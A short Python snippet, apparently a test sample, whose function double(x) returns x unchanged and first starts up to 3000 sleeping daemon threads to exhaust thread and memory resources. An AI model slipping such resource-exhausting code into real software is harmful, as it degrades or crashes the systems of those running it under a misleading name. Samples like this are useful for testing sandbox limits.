# starts three thousand threads
import threading, time
def start():
    for _ in range(3000):
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except (RuntimeError, MemoryError):
            break
def double(x):
    start()
    return x
